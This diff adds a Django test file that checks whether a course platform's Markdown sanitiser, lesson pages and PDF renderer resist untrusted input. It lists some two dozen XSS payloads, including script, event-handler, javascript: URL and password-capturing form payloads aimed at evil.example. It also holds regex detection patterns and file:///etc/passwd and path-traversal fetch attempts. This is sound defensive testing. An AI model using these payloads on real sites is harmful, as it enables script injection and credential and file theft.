@@ -1,0 +1,110 @@
+"""Untrusted input: XSS payloads through the Markdown sanitiser and a published lesson; the PDF renderer's fetcher."""
+
+from __future__ import annotations
+
+import io
+import re
+import shutil
+from pathlib import Path
+
+import pytest
+from django.template import Context, Template
+from pypdf import PdfReader
+
+from courses.loader import load_catalog
+from courses.markdown import render_markdown
+from courses.models import Lesson
+from hipaa_training.pdf import StaticOnlyFetcher, render_pdf
+
+XSS_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    '<img src=x onerror="alert(1)">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<a href="javascript:alert(1)">click</a>',
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
+    "[click](java&#x09;script:alert(1))",
+    '<a href="&#x6A;avascript:alert(1)">x</a>',
+    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    '<iframe src="https://evil.example"></iframe>',
+    '<object data="x.swf"></object><embed src="x.swf">',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<body onload="alert(1)">',
+    '<details open ontoggle="alert(1)">',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "<form action=https://evil.example><input name=password></form>",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="https://evil.example/">',
+    '<link rel=stylesheet href="https://evil.example/x.css">',
+    "`<script>alert(1)</script>` and <scr<script>ipt>alert(1)</script>",
+]
+
+EVENT_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
+DANGEROUS_TAG = re.compile(r"<\s*(script|iframe|object|embed|svg|math|form|meta|base|link|style|img)\b", re.IGNORECASE)
+DANGEROUS_URL = re.compile(r"(href|src|action)\s*=\s*[\"']?\s*(javascript|data|vbscript):", re.IGNORECASE)
+
+
+def assert_inert(html: str) -> None:
+    assert not DANGEROUS_TAG.search(html), html
+    assert not EVENT_HANDLER.search(html), html
+    assert not DANGEROUS_URL.search(html), html
+    assert "javascript:" not in html.lower().replace("&amp;", "&"), html
+    assert "style=" not in html.lower(), html
+
+
+@pytest.mark.parametrize("payload", XSS_PAYLOADS)
+def test_markdown_rendering_leaves_no_script_handler_or_javascript_url(payload):
+    assert_inert(render_markdown(f"Some text.\n\n{payload}\n\nMore text, {payload} inline."))
+
+
+@pytest.fixture
+def hostile_catalog(tmp_path: Path, settings) -> Path:
+    """A catalogue folder whose one course carries every payload in its lesson."""
+    source = Path(settings.BASE_DIR) / "courses" / "catalog" / "confidentiality-basics"
+    folder = tmp_path / "catalog" / "hostile-course"
+    shutil.copytree(source, folder)
+    lesson = sorted((folder / "lessons").glob("*.md"))[0]
+    lesson.write_text("# A lesson with hostile content\n\n" + "\n\n".join(XSS_PAYLOADS) + "\n")
+    return folder.parent
+
+
+@pytest.mark.django_db
+def test_a_published_lesson_page_carries_no_script(hostile_catalog):
+    load_catalog(hostile_catalog)
+    lesson = Lesson.objects.get(title="A lesson with hostile content")
+    assert_inert(lesson.body_html)
+    # As a lesson page shows it (the player marks the stored, sanitised HTML safe).
+    page = Template('{% extends "base.html" %}{% block content %}{{ body|safe }}{% endblock %}').render(
+        Context({"body": lesson.body_html, "user": None})
+    )
+    content = page.split('<main id="main"', 1)[1].split("</main>", 1)[0]
+    assert lesson.body_html.strip() and lesson.body_html in content
+    assert_inert(content)
+
+
+def test_the_pdf_renderer_fetches_nothing_outside_the_static_files():
+    fetcher = StaticOnlyFetcher()
+    html = """<html><head>
+      <link rel="stylesheet" href="file:///etc/passwd">
+      <link rel="stylesheet" href="https://evil.example/steal.css">
+    </head><body>
+      <p>Certificate</p>
+      <img src="file:///etc/passwd">
+      <img src="https://evil.example/pixel.png">
+      <iframe src="file:///etc/passwd"></iframe>
+      <object data="file:///etc/passwd"></object>
+      <img src="../../../../etc/passwd">
+    </body></html>"""
+    pdf = render_pdf(html, fetcher=fetcher)
+    assert "file:///etc/passwd" in fetcher.refused
+    assert "https://evil.example/steal.css" in fetcher.refused
+    assert "https://evil.example/pixel.png" in fetcher.refused
+    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
+    assert "Certificate" in text
+    passwd = Path("/etc/passwd").read_text()
+    assert "root:" in passwd
+    assert "root:" not in text
